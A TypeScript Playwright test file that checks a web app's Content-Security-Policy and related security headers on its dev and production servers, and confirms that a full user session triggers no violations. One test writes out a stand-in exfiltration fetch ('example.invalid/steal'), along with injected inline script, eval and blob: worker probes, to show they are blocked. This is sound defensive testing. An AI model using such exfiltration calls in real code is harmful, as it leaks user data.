/**
 * The Content-Security-Policy and the other security headers, on the dev server and on the
 * production build (built here and served by `vite preview`): every response carries them, the
 * production policy is exactly the documented one (README "Security"), a request the page makes
 * to another origin, an inline script, eval and a blob: worker are blocked, and a whole session
 * (upload with the line scanner's worker, the sample on every view, chart exports, CSV
 * downloads, a snapshot link) runs without a single violation.
 */
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { build, preview } from 'vite';
import type { PreviewServer } from 'vite';
import { VIEWPORT, launch } from './browser.ts';
import { FIXTURES, T, idle, loadSample, showView } from './helpers.ts';
import type { ViewName } from './helpers.ts';

/** The policy issue 11 asks for, word for word; the production servers send exactly this. */
const POLICY =
  "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src 'self'; " +
  "connect-src 'self'; img-src 'self' data: blob:; style-src 'self' 'unsafe-inline'; " +
  "base-uri 'none'; form-action 'none'; frame-ancestors 'none'; object-src 'none'";

const directives = (policy: string) =>
  new Map(
    policy
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...sources]) => [name as string, sources]),
  );

/** A page that records CSP violations (document events and console reports, workers too). */
async function watchedPage(browser: Browser, url: string) {
  const page = await browser.newPage({ viewport: VIEWPORT, acceptDownloads: true });
  const reports: string[] = [];
  const errors: string[] = [];
  const workers: string[] = [];
  const responses: { url: string; type: string; headers: Record<string, string> }[] = [];
  const isCsp = (t: string) => /Content Security Policy|Refused to/i.test(t);
  page.on('console', (m) => {
    if (isCsp(m.text())) reports.push(`console: ${m.text()}`);
    else if (m.type() === 'error') errors.push(m.text());
  });
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('worker', (w) => {
    workers.push(w.url());
    w.on('console', (m) => {
      if (isCsp(m.text())) reports.push(`worker console: ${m.text()}`);
    });
  });
  page.on('response', (r) => {
    responses.push({ url: r.url(), type: r.request().resourceType(), headers: r.headers() });
  });
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { cspViolations: string[] }).cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (e) =>
      seen.push(`${e.effectiveDirective} blocked ${e.blockedURI} at ${e.sourceFile}`),
    );
  });
  const main = await page.goto(url);
  const violations = async () => [
    ...reports,
    ...(await page.evaluate(
      () => (window as unknown as { cspViolations: string[] }).cspViolations,
    )),
  ];
  return { page, main, errors, workers, responses, violations };
}

/** Open a view and wait until its charts are drawn. */
async function openView(page: Page, view: ViewName): Promise<void> {
  await showView(page, view);
  await page.locator('figure.chart .recharts-wrapper > svg.recharts-surface').first().waitFor(T);
  await page.waitForTimeout(300);
}

/** Click a download button (the first of that name) and name the file it gave. */
async function download(page: Page, name: string): Promise<string> {
  const [dl] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name, exact: true }).first().click(),
  ]);
  return dl.suggestedFilename();
}

const SERVERS = ['dev server', 'production build'] as const;

describe.each(SERVERS)('Content-Security-Policy on the %s', (server) => {
  let browser: Browser;
  let base: string;
  let previewServer: PreviewServer | undefined;
  let outDir: string | undefined;

  beforeAll(async () => {
    browser = await launch();
    if (server === 'dev server') {
      base = inject('baseUrl');
      return;
    }
    outDir = mkdtempSync(path.join(os.tmpdir(), 'surgescope-csp-'));
    await build({
      configFile: 'vite.config.ts',
      logLevel: 'error',
      build: { outDir, emptyOutDir: true },
    });
    previewServer = await preview({
      configFile: 'vite.config.ts',
      logLevel: 'error',
      build: { outDir },
      preview: { host: '127.0.0.1', port: 5390, strictPort: false },
    });
    base = previewServer.resolvedUrls?.local[0] ?? 'http://127.0.0.1:5390/';
  });
  afterAll(async () => {
    await browser?.close();
    await previewServer?.close();
    if (outDir) rmSync(outDir, { recursive: true, force: true });
  });

  it('sends the policy, nosniff and no-referrer with the page', async () => {
    const res = await fetch(base);
    expect(res.status).toBe(200);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('referrer-policy')).toBe('no-referrer');
    const policy = res.headers.get('content-security-policy') ?? '';
    if (server === 'production build') {
      expect(policy).toBe(POLICY);
    } else {
      // Dev adds only what Vite's dev mode needs: a nonce for its inline preamble script and
      // the HMR WebSocket to this very host.
      const expected = directives(POLICY);
      const got = directives(policy);
      expect([...got.keys()]).toEqual([...expected.keys()]);
      for (const [name, sources] of expected) {
        const extra = (got.get(name) ?? []).filter((s) => !sources.includes(s));
        expect(got.get(name), name).toEqual(expect.arrayContaining(sources));
        if (name === 'script-src') expect(extra).toEqual([expect.stringMatching(/^'nonce-/)]);
        else if (name === 'connect-src') {
          const host = new URL(base).host;
          expect(extra).toEqual([`ws://${host}`, `wss://${host}`]);
        } else expect(extra, name).toEqual([]);
      }
      // Every inline script Vite writes carries that nonce.
      const nonce = /'nonce-([^']+)'/.exec(policy)?.[1];
      const html = await res.text();
      const scripts = html.match(/<script\b[^>]*>/g) ?? [];
      expect(scripts.length).toBeGreaterThan(0);
      for (const s of scripts) expect(s).toContain(`nonce="${nonce}"`);
    }
  });

  it('the README documents the production policy and headers', () => {
    const readme = readFileSync('README.md', 'utf8');
    const security = readme.slice(readme.indexOf('## Security'));
    expect(readme).toContain('## Security');
    expect(security).toContain(POLICY);
    expect(security).toContain('X-Content-Type-Options: nosniff');
    expect(security).toContain('Referrer-Policy: no-referrer');
  });

  it('blocks a request to another origin, inline script, eval and a blob: worker', async () => {
    const { page, violations } = await watchedPage(browser, base);
    const fetched = await page.evaluate(async () => {
      try {
        await fetch('http://example.invalid/steal?x=1');
        return 'sent';
      } catch (e) {
        return `rejected: ${String(e)}`;
      }
    });
    expect(fetched).toMatch(/^rejected: TypeError/);
    const probes = await page.evaluate(async () => {
      const out: Record<string, string> = {};
      // An inline script injected into the page does not run.
      const s = document.createElement('script');
      s.textContent = 'window.__inlineRan = true;';
      document.body.append(s);
      out.inline = (window as unknown as { __inlineRan?: boolean }).__inlineRan ? 'ran' : 'blocked';
      // eval in a task of the page's own (DevTools lets the evaluating call itself eval).
      out.eval = await new Promise<string>((resolve) =>
        setTimeout(() => {
          try {
            resolve(String((0, eval)('1 + 1')));
          } catch (e) {
            resolve(`blocked: ${(e as Error).name}`);
          }
        }, 0),
      );
      try {
        const url = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
        const w = new Worker(url);
        out.worker = await new Promise<string>((resolve) => {
          w.onmessage = () => resolve('ran');
          w.onerror = () => resolve('blocked');
          setTimeout(() => resolve('blocked (silent)'), 2000);
        });
      } catch (e) {
        out.worker = `blocked: ${(e as Error).name}`;
      }
      const img = new Image();
      out.image = await new Promise<string>((resolve) => {
        img.onload = () => resolve('loaded');
        img.onerror = () => resolve('blocked');
        img.src = 'http://example.invalid/pixel.png';
      });
      return out;
    });
    expect(probes).toEqual({
      inline: 'blocked',
      eval: 'blocked: EvalError',
      worker: expect.stringMatching(/^blocked/),
      image: 'blocked',
    });
    await expect
      .poll(violations)
      .toEqual(
        expect.arrayContaining([
          expect.stringMatching(/^connect-src blocked http:\/\/example\.invalid\/steal/),
          expect.stringMatching(/^script-src-elem blocked inline/),
          expect.stringMatching(/^script-src blocked eval/),
          expect.stringMatching(/^worker-src blocked blob/),
          expect.stringMatching(/^img-src blocked http:\/\/example\.invalid\/pixel\.png/),
        ]),
      );
    await page.close();
  });

  it('runs an upload, every view, exports, downloads and a snapshot with no violation', async () => {
    // Files through the input: the line scanner runs in its own worker.
    const up = await watchedPage(browser, base);
    const files = ['signups_global.csv', 'signups_cn.csv', 'posts_web.csv', 'posts_app.csv'];
    await up.page
      .getByLabel('Choose CSV files')
      .setInputFiles(files.map((f) => path.join(FIXTURES, f)));
    await up.page.getByRole('button', { name: 'Load 4 files' }).click();
    await up.page.waitForFunction(() => /[?&]fp=v1-/.test(location.search), null, T);
    await showView(up.page, 'Data', false);
    expect(up.workers.some((w) => w.includes('scan-worker'))).toBe(true);
    expect(await up.violations()).toEqual([]);
    expect(up.errors).toEqual([]);
    await up.page.close();

    // The sample on every view, each chart exported, each view's first table downloaded.
    const s = await watchedPage(browser, base);
    await loadSample(s.page);
    const charts: [ViewName, string][] = [
      ['Waves', 'Signups over time'],
      ['Content mix', 'Category shares, newcomers'],
      ['Retention', 'Retention by week since signup'],
    ];
    for (const [view, title] of charts) {
      await openView(s.page, view);
      expect(await download(s.page, `Download ${title} as SVG`)).toMatch(/\.svg$/);
      expect(await download(s.page, `Download ${title} as PNG`)).toMatch(/\.png$/);
      expect(await download(s.page, 'Download CSV')).toMatch(/\.csv$/);
    }
    const share = s.page.getByRole('group', { name: 'Share' });
    await share.getByRole('button', { name: 'Snapshot link' }).click();
    // The share bar may ask first when the view uses a column that can identify people.
    const confirm = share.getByRole('button', { name: /anyway$/ });
    const link = s.page.getByLabel('Link to share');
    await expect
      .poll(async () => (await link.count()) + (await confirm.count()), T)
      .toBeGreaterThan(0);
    if ((await link.count()) === 0) await confirm.click();
    await link.waitFor(T);
    const snapshot = await link.inputValue();
    expect(snapshot).toContain('#snapshot=');
    await idle(s.page);

    // The snapshot opens on a fresh page, with no data.
    const view = await watchedPage(browser, snapshot);
    await view.page
      .locator('figure.chart .recharts-wrapper > svg.recharts-surface')
      .first()
      .waitFor(T);

    expect(s.workers.some((w) => /duckdb-browser-[a-z]+\.worker/.test(w))).toBe(true);
    for (const p of [s, view]) {
      expect(await p.violations()).toEqual([]);
      expect(p.errors).toEqual([]);
      // Every response of the app's own (page, scripts, worker scripts, wasm, CSV) came with
      // the headers: a worker runs under the policy its own script was served with.
      const own = p.responses.filter((r) => r.url.startsWith(base));
      expect(own.some((r) => r.url.endsWith('.wasm'))).toBe(p === s);
      for (const r of own) {
        expect(r.headers['content-security-policy'], r.url).toBeTruthy();
        expect(r.headers['x-content-type-options'], r.url).toBe('nosniff');
      }
    }
    expect(s.main?.headers()['content-security-policy']).toBeTruthy();
    await s.page.close();
    await view.page.close();
  });
});
